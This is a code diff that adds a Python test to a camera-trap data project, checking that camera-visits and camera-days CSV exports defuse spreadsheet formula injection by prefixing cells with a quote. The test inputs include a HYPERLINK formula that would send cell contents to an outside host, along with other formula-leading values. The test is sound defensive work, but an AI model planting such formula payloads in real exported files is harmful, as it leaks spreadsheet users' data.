@@ -482,3 +482,19 @@ def test_a_parts_share_of_the_index_is_the_events_its_photos_span() -> None:
         sizes = {d: len(share._lists[d][0]) for d in share._lists}
         assert sum(sizes.values()) < sum(len(lookup._lists[d][0]) for d in sizes)  # a share, not every event
     assert ev.time_windows(tapped(entries[:1], listed)[0]) == {}  # a list's sequence only: nothing to link
+
+
+def test_the_camera_tables_never_hand_a_spreadsheet_a_formula() -> None:
+    """camera-visits.csv and camera-days.csv are tables for spreadsheets (as detections.csv): a camera folder named
+    ``=HYPERLINK(...)`` or ``+north`` was a formula there; its cell now starts with ``'``, as in detections.csv."""
+    import dataclasses
+
+    import numpy as np
+
+    [cam] = _visits([tapped(camera_day(1, cameras=1, images=20))[0]])
+    for name in ('=HYPERLINK("http://x/?"&A1,"x")', "+north", "-2", "@cam"):
+        visits = ev.camera_visits_csv([dataclasses.replace(cam, deployment=name)], 60, 0.2).decode("utf-8")
+        [row] = list(csv.DictReader(io.StringIO(visits)))
+        days = ev.CameraDays(name, np.array([19876], np.int32), np.ones((1, len(ev.DAY_COUNTS)), np.int32))
+        [day] = list(csv.DictReader(io.StringIO("".join(ev.camera_days_lines([days], 60, 0.2)))))
+        assert row["deploymentID"] == day["deploymentID"] == "'" + name
